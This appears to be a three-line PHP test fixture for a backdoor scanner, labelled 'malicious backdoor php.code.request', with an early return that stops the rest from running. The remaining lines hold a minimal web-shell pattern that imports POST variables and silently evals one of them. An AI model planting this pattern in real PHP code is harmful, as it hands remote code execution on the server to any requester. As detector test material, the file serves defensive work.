<?php return; // want: malicious backdoor php.code.request
extract($_POST);
@eval($anything);
